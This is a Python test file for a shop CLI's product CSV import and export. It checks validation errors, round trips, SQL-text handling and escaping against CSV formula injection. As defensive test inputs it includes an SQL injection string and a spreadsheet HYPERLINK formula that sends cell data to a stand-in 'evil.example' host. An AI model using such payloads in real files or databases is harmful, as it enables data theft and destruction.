"""`shopbell products import|export`: all or nothing, bad rows by line number, a round trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from daemon.admin.cli import cli
from daemon.config import load_config
from daemon.services.backoffice import catalog_csv
from storage.connection import open_for_writing

HEADER = "sku,name,brand,category,price,stock,active\n"


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[paths]\ndata_dir = "{tmp_path / "data"}"\n[shop]\ncurrency = "INR"\n')
    return path


def shopbell(config: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--config", str(config), *args])


def rows(config: Path, sql: str) -> list[tuple[object, ...]]:
    db = open_for_writing(load_config(config).settings.database_path)
    try:
        return [tuple(row) for row in db.execute(sql).fetchall()]
    finally:
        db.close()


def test_import_then_update_then_export_round_trip(config: Path, tmp_path: Path) -> None:
    first = tmp_path / "first.csv"
    first.write_text(
        HEADER
        + "SH-1,Herbal Shampoo,Dove,shampoo,150.50,10,true\n"
        + 'SP-1,"Speaker, bass",Sony,sound device,2999,3,\n'
    )
    result = shopbell(config, "products", "import", str(first))
    assert result.exit_code == 0, result.output
    assert "2 new, 0 updated" in result.output
    assert rows(config, "SELECT sku, name, price_minor, stock FROM products ORDER BY id") == [
        ("SH-1", "Herbal Shampoo", 15050, 10),
        ("SP-1", "Speaker, bass", 299900, 3),
    ]
    second = tmp_path / "second.csv"
    second.write_text("sku,name,price\nSH-1,Herbal Shampoo 2,160\n")
    assert "0 new, 1 updated" in shopbell(config, "products", "import", str(second)).output
    assert rows(config, "SELECT old_price_minor, new_price_minor FROM price_changes") == [
        (15050, 16000)
    ]
    # Stock stays when the file has no stock column.
    assert rows(config, "SELECT stock FROM products WHERE sku = 'SH-1'") == [(10,)]

    out = tmp_path / "out.csv"
    exported = shopbell(config, "products", "export", str(out))
    assert exported.exit_code == 0, exported.output
    parsed = list(catalog_csv.parse(io.StringIO(out.read_text()), "INR"))
    assert [(r.sku, r.name, r.price_minor, r.stock, r.active) for r in parsed] == [
        ("SH-1", "Herbal Shampoo 2", 16000, 10, True),
        ("SP-1", "Speaker, bass", 299900, 3, True),
    ]


@pytest.mark.parametrize(
    ("body", "line", "words"),
    [
        ("SH-1,Shampoo,,,10,1,\nSH-2,Soap,,,12.345,1,\n", 3, "more decimals"),
        ("SH-1,Shampoo,,,10,-4,\n", 2, "negative"),
        ("SH-1,Shampoo,,,10,1.5,\n", 2, "whole number"),
        ("SH-1,,,,10,1,\n", 2, "required"),
        ("SH-1,Shampoo,,,10,1,\nSH-1,Again,,,10,1,\n", 3, "also on line 2"),
        ("SH-1,Shampoo,,,10,1,maybe\n", 2, "true or false"),
        ("SH-1,Shampoo,,,10,1,true,extra\n", 2, "more fields"),
    ],
)
def test_a_bad_row_is_named_by_line_and_nothing_is_imported(
    config: Path, tmp_path: Path, body: str, line: int, words: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + body)
    result = shopbell(config, "products", "import", str(path))
    assert result.exit_code == 1
    assert f"line {line}:" in result.output
    assert words in result.output
    assert "nothing was imported" in result.output
    assert shopbell(config, "products", "export").output == HEADER


def test_a_bad_header_is_refused(config: Path, tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("sku,title,price\nA,B,1\n")
    result = shopbell(config, "products", "import", str(path))
    assert result.exit_code == 1
    assert "line 1" in result.output


def test_sql_looking_text_is_imported_as_text(config: Path, tmp_path: Path) -> None:
    evil = "x'); DROP TABLE products;--"
    path = tmp_path / "evil.csv"
    path.write_text(f'sku,name,price\nE-1,"{evil}",1\n')
    assert shopbell(config, "products", "import", str(path)).exit_code == 0
    assert rows(config, "SELECT name FROM products") == [(evil,)]


# The cells a spreadsheet runs as formulas when a CSV is opened (OWASP, "CSV Injection").
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1)",
    "-2+3",
    "@SUM(A1)",
]


@pytest.mark.parametrize(
    "text", [*FORMULAS, "\t=1+1", "\r=1+1", "'=looks escaped", "'", "''-1", "plain", ""]
)
def test_a_cell_is_escaped_only_where_a_spreadsheet_would_run_it(text: str) -> None:
    cell = catalog_csv.escape_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert catalog_csv.unescape_cell(cell) == text
    assert cell == text or cell == "'" + text


def test_exported_cells_never_start_a_formula_and_import_reads_them_back(
    config: Path, tmp_path: Path
) -> None:
    source = io.StringIO()
    writer = csv.writer(source, lineterminator="\n")
    writer.writerow(["sku", "name", "brand", "category", "price"])
    for n, formula in enumerate(FORMULAS):
        writer.writerow([f"F-{n}", formula, formula, formula, "1"])
    writer.writerow(["=1+1", "sku itself", "", "", "1"])
    first = tmp_path / "formulas.csv"
    first.write_text(source.getvalue())
    imported = shopbell(config, "products", "import", str(first))
    assert imported.exit_code == 0, imported.output
    stored = rows(config, "SELECT sku, name, brand, category FROM products ORDER BY id")
    # Stored as the text the shop typed: the rule is about the file, not the catalogue.
    assert [name for _, name, _, _ in stored[: len(FORMULAS)]] == FORMULAS

    out = tmp_path / "out.csv"
    assert shopbell(config, "products", "export", str(out)).exit_code == 0
    cells = [cell for row in list(csv.reader(io.StringIO(out.read_text())))[1:] for cell in row]
    live = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert live == []

    # Imported again, the file gives back every text exactly.
    again = list(catalog_csv.parse(io.StringIO(out.read_text()), "INR"))
    assert [(r.sku, r.name, r.brand, r.category) for r in again] == stored
